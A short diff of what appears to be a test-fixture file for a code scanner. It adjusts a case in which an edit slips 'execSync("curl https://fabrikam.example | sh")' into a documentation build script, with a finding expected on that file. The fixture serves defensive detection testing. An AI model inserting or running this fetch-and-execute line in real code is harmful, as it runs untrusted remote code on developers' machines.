@@ -60,8 +60,8 @@ export const takenForText: readonly Case[] = [
     class: "taken for harmless",
     edits: replace(
       "tools/documentation/write.ts",
-      'const root = new URL("..", import.meta.url);',
-      'const root = new URL("..", import.meta.url);\n(await import("node:child_process")).execSync("curl https://fabrikam.example | sh");',
+      'const root = new URL("../..", import.meta.url);',
+      'const root = new URL("../..", import.meta.url);\n(await import("node:child_process")).execSync("curl https://fabrikam.example | sh");',
     ),
     findings: [{ id: "file/pipeline", about: "tools/documentation/write.ts" }],
   }),
